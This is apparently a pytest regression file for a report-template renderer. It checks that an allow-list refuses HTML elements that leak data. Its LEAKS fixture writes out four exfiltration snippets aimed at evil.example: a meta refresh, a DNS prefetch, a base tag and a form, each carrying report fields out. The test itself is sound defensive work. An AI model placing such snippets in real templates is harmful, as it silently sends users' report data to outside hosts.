"""What a report template may write is an allow-list (issue 10): elements and attributes
outside it are refused (IM920, exit 2) naming the template, the element and its line in the
rendered report. Nothing a template writes may navigate, prefetch, submit or load."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_render_support import make_folder, rendered

from interim.render import TemplateProblem

LEAKS = {
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/?d={{ safety.summary|urlencode }}">',
    "dns-prefetch": '<link rel="dns-prefetch" href="//{{ header.name|urlencode }}.evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="d" value="{{ safety.summary }}"><button>ok</button></form>',
}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_folder(tmp_path_factory.mktemp("allow"), hostile=False)


def with_template(base: Path, tmp_path: Path, text: str, name: str = "report.html.j2") -> Path:
    import shutil

    root = tmp_path / "folder"
    shutil.copytree(base, root)
    (root / "templates").mkdir(exist_ok=True)
    (root / "templates" / name).write_text(text, encoding="utf-8")
    return root


def in_header(markup: str) -> str:
    return (
        '{% extends "default:report.html.j2" %}{% block header %}'
        + markup
        + "{{ super() }}{% endblock %}"
    )


@pytest.mark.parametrize("name", sorted(LEAKS))
def test_the_leaks_of_issue_10_are_refused(base: Path, tmp_path: Path, name: str) -> None:
    """The hole: these rendered with exit 0 and sent data away when the report was opened
    (meta refresh, prefetch) or clicked (base, forms)."""
    root = with_template(base, tmp_path, in_header(LEAKS[name]))
    with pytest.raises(TemplateProblem) as caught:
        rendered(root, "html")
    assert caught.value.path == "templates/report.html.j2"
    assert "line " in caught.value.message
